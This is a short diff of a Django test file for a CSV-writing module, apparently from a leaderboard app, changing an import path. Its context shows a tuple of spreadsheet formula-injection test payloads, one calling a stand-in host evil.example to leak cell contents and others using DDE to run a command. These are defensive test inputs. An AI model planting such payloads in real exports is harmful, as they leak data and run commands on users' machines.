@@ -11,7 +11,7 @@ import pytest
 from django.core.management import call_command
 
 from arena.csvcells import csv_cell, csv_write
-from tests.leaderboards.conftest import build_arena, human_votes, imported_verdicts
+from tests.factories import build_arena, human_votes, imported_verdicts
 
 HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
 
